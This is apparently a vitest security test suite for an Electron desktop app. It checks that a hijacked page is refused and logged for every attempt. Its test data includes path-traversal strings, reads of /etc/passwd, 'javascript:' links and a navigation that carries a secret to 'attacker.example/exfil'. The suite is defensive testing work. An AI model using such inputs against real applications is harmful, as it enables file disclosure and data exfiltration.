import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { DROPPED, PAGE_POLICY, QUESTION } from './contract/desktop-ipc.ts';
import { REFUSAL_LOG } from './session/refusal-log.ts';
import { DesktopProgram } from './testing/electron-stand-in/desktop-program.ts';
import type { ElectronStandIn } from './testing/electron-stand-in/electron-stand-in.ts';

// What a page that was taken over may try, by whatever it can reach: each is refused, and each is noted.

const SECRET = 'geheim-4711';
let program: DesktopProgram;
let electron: ElectronStandIn;
beforeAll(async () => {
  program = await DesktopProgram.build();
  electron = await program.open();
});
afterAll(() => program.remove());

const logPath = () => join(program.folder, 'state', REFUSAL_LOG);
const noted = () =>
  existsSync(logPath())
    ? readFileSync(logPath(), 'utf8')
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as { kind: string; detail: string; host: string })
    : [];
beforeEach(() => {
  vi.spyOn(process.stderr, 'write').mockReturnValue(true);
  rmSync(logPath(), { force: true });
});

const ask = (channel: unknown, input?: unknown) =>
  electron.page.invokeFrom(electron.page.mainFrame, QUESTION, channel, input);

describe('a page that was taken over', () => {
  it('cannot ask from a frame of its own', async () => {
    const frame = { url: `https://attacker.example/?${SECRET}`, frameTreeNodeId: 7 };
    expect(await electron.page.invokeFrom(frame, QUESTION, 'app-info')).toMatchObject({
      error: { code: 'untrusted-sender' },
    });
    electron.page.sendFrom(frame, DROPPED, '/etc/passwd');
    expect(noted().map(({ kind }) => kind)).toEqual(['foreign-sender', 'foreign-sender']);
  });

  it.each(['run-everything', 'file-opened', '__proto__', 'x'.repeat(10_000), { toString: null }, 7])(
    'finds no channel besides those of the contract: %j',
    async (channel) => {
      expect(await ask(channel)).toMatchObject({ error: { code: 'unknown-channel' } });
      const [note] = noted();
      expect(note).toMatchObject({ kind: 'unknown-channel', host: 'desktop' });
      expect(note?.detail.length).toBeLessThan(100);
    },
  );

  it('cannot pass what no channel takes', async () => {
    expect(await ask('run-open', { runId: '../../etc/passwd' })).toMatchObject({
      error: { code: 'bad-input' },
    });
    expect(await ask('run-open', new Map())).toMatchObject({ error: { code: 'bad-input' } });
    expect(noted().map(({ kind }) => kind)).toEqual(['bad-input', 'bad-input']);
  });

  it.each([
    'app://airway/../outside.html',
    'app://airway/%2e%2e/%2e%2e/etc/passwd',
    'app://airway/assets/..%2f..%2foutside.html',
  ])('reads no file beside the wizard: %s', async (url) => {
    expect((await electron.session.request(url))?.status).toBe(404);
    expect(noted()).toEqual([expect.objectContaining({ kind: 'missing-file' })]);
  });

  it('goes nowhere else', () => {
    const details = { url: `https://attacker.example/exfil?${SECRET}`, isMainFrame: true };
    expect(electron.page.isPrevented('will-frame-navigate', details)).toBe(true);
    expect(electron.page.isPrevented('will-navigate', details)).toBe(true);
    expect(noted()).toEqual([
      expect.objectContaining({ kind: 'navigation', detail: 'https://attacker.example/exfil' }),
    ]);
  });

  it('opens no window', () => {
    expect(electron.page.openWindow('https://attacker.example/')).toEqual({ action: 'deny' });
    expect(noted()).toEqual([expect.objectContaining({ kind: 'new-window' })]);
  });

  it('embeds no page', () => {
    const isPrevented = electron.page.isPrevented(
      'will-attach-webview',
      {},
      {},
      { src: 'https://a.example/' },
    );
    expect(isPrevented).toBe(true);
    expect(noted()).toEqual([expect.objectContaining({ kind: 'webview', detail: 'https://a.example/' })]);
  });

  it.each(['xhr', 'image', 'script', 'ping', 'webSocket', 'subFrame'] as const)(
    'sends no %s to the network',
    async (resourceType) => {
      expect(await electron.session.request('https://attacker.example/x', resourceType)).toBeUndefined();
      expect(noted()).toEqual([expect.objectContaining({ kind: 'request' })]);
    },
  );

  it('gets round to no address by WebRTC', () => {
    expect(electron.page.webRtcPolicy).toBe('disable_non_proxied_udp');
  });

  it('may do nothing that needs a permission', () => {
    for (const permission of [
      'media',
      'geolocation',
      'clipboard-read',
      'fileSystem',
      'openExternal',
    ] as const)
      expect(electron.session.isGranted(permission)).toBe(false);
    expect(electron.session.hasDevice()).toBe(false);
    expect(new Set(noted().map(({ kind }) => kind))).toEqual(new Set(['permission', 'device']));
  });

  it('is refused the clipboard as well, which is not worth a line: copy buttons ask for it', () => {
    expect(electron.session.isGranted('clipboard-sanitized-write')).toBe(false);
    expect(noted()).toEqual([]);
  });

  it('downloads nothing', () => {
    const preventDefault = vi.fn();
    electron.session.emit('will-download', { preventDefault }, { getURL: () => 'blob:app://airway/1' });
    expect(preventDefault).toHaveBeenCalledTimes(1);
    expect(noted()).toEqual([expect.objectContaining({ kind: 'download' })]);
  });

  it.each([
    'https://attacker.example/',
    'file:///etc/passwd',
    'javascript:1',
    'constructor',
    'air-ports/../x',
  ])('opens no link that is not in the table: %s', async (link) => {
    expect(await ask('link-open', { link })).toMatchObject({ error: { code: 'bad-input' } });
    expect(await ask('link-open', { link: 'air-ports', url: link })).toMatchObject({
      error: { code: 'bad-input' },
    });
    expect(electron.system.openedExternally).toEqual([]);
    expect(noted().map(({ kind }) => kind)).toEqual(['bad-input', 'bad-input']);
  });

  it('writes to no path: each is refused before any dialog is shown', async () => {
    const path = join(program.folder, 'written-by-attacker');
    for (const key of ['path', 'filePath', 'target'])
      expect(await ask('bundle-save', { runId: 'a', [key]: path })).toMatchObject({
        error: { code: 'bad-input' },
      });
    expect(await ask('report-print', { runId: 'a', path })).toMatchObject({ error: { code: 'bad-input' } });
    expect(existsSync(path)).toBe(false);
    expect(electron.system.dialogsShown).toEqual([]);
    expect(noted()).toHaveLength(4);
  });

  it.each(['/etc/passwd', '/etc/hostname', '', 7, null, { path: '/etc/passwd' }, 'x'.repeat(40_000)])(
    'reads no file by saying that it was dropped: %j',
    async (path) => {
      const heard = vi.spyOn(electron.page, 'send');
      electron.page.sendFrom(electron.page.mainFrame, DROPPED, path);
      await vi.waitFor(() => expect(noted()).toHaveLength(1));
      expect(['opened-file', 'bad-input']).toContain(noted()[0]?.kind);
      expect(JSON.stringify(heard.mock.calls)).not.toContain('root');
    },
  );

  it('cannot keep it from being noted that the policy stopped it', () => {
    electron.page.happen('securitypolicyviolation', {
      effectiveDirective: 'script-src',
      blockedURI: 'eval',
    });
    electron.page.sendFrom(electron.page.mainFrame, PAGE_POLICY, { directive: 1 });
    expect(noted()).toEqual([
      expect.objectContaining({ kind: 'page-policy', detail: 'script-src blocked eval' }),
      expect.objectContaining({ kind: 'bad-input' }),
    ]);
  });
});

it('a start without the sandbox is noted', async () => {
  rmSync(logPath(), { force: true });
  await program.open((standIn) => standIn.app.switches.add('no-sandbox'));
  expect(noted()).toEqual([expect.objectContaining({ kind: 'no-sandbox' })]);
});

it('nothing of what may be secret in an address is noted', () => {
  electron.page.openWindow(`https://user:${SECRET}@attacker.example/?${SECRET}#${SECRET}`);
  expect(readFileSync(logPath(), 'utf8')).not.toContain(SECRET);
});
